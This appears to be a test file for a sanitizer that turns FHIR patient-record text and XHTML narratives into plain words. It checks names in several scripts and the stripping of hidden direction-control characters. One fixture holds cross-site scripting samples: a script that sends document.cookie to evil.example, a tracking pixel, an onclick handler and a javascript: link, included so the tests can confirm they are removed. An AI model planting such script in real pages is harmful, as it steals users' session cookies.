import { describe, expect, it } from 'vitest';
import { narrativeText, plainText } from '../../../../src/health/fhir/plain-text.ts';

describe('a line of text', () => {
  it.each(['محمد بن علي', 'דנה לוי', '张伟', 'Nguyễn Thị Ánh', 'O’Brien-Ó Súilleabháin'])(
    'keeps the name %s',
    (name) => {
      expect(plainText(name, 80)).toBe(name);
    },
  );

  it('has no marks that turn the direction of the text, or hide', () => {
    expect(plainText('a\u202Eb\u200Bc\u2066d', 80)).toBe('a b c d');
  });
});

describe('a narrative', () => {
  it('is its words: no script, no style, no image, nothing to click on', () => {
    const div = `<div xmlns="http://www.w3.org/1999/xhtml"><style>p { color: red }</style><p onclick="steal()">Takes
      <b>aspirin</b> &lt;daily&gt;</p><script>fetch('https://evil.example/?' + document.cookie)</script>
      <img src="https://evil.example/pixel"/><a href="javascript:steal()">more</a><!-- <b>hidden</b> --></div>`;
    expect(narrativeText(div, 600)).toBe('Takes aspirin <daily> more');
  });

  it.each(['<', '<!--', '<script>', '<style>', '</'])('of %s and nothing else has no words', (piece) => {
    expect(narrativeText(piece.repeat(200_000 / piece.length), 600)).toBeUndefined();
    expect(narrativeText(`Fine. ${piece} `, 600)).toBe('Fine.');
  });
});
